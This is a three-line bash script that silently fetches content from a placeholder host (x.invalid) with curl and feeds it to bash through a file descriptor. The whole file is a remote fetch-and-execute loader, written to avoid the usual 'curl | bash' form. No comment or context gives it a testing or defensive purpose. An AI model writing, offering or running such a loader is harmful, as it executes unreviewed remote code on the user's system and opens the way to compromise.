#!/bin/bash
exec 3< <(curl -s http://x.invalid/a)
bash <&3
